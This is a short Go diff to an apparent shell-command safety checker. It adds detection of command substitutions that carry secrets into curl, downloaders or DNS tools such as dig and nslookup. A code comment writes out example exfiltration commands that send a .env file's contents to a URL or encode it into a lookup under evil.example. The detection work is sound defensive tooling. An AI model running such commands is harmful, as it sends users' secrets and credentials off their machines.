@@ -145,6 +145,16 @@ func (ck *checker) exfil(c shellparse.SimpleCommand) {
 	base := path.Base(c.Name)
 	args := c.Argv[1:]
 	stdin := ck.stdinSecret(c)
+	if exfilSenders[base] || downloaders[base] || dnsTools[base] {
+		// curl -d "$(cat .env)" URL, dig "$(base64 < .env).evil.example": a
+		// substitution that carries a secret into what the program sends.
+		for _, a := range args {
+			if a.Subst && ck.substCarriesSecret(a) {
+				ck.add("exfiltration", Severe, base+" sends "+clip(a.Text)+", which carries a secret, off the machine")
+				return
+			}
+		}
+	}
 	switch base {
 	case "curl":
 		ck.curlExfil(args, stdin)
@@ -570,4 +580,19 @@ func (ck *checker) inlineSecrets(name, code string) {
 			return
 		}
 	}
+}
+
+// dnsTools send the names they are given to name servers and hosts.
+var dnsTools = map[string]bool{"dig": true, "nslookup": true, "host": true, "ping": true, "ping6": true, "traceroute": true, "drill": true, "kdig": true}
+
+// substCarriesSecret reports a word whose command substitution runs a command
+// that reads a secret or prints the environment.
+func (ck *checker) substCarriesSecret(w shellparse.Word) bool {
+	for j := 0; j < ck.index && j < len(ck.res.Commands); j++ {
+		inner := ck.res.Commands[j]
+		if inner.Subst != "" && ck.secretOut[j] && inner.Source != "" && strings.Contains(w.Text, inner.Source) {
+			return true
+		}
+	}
+	return false
 }
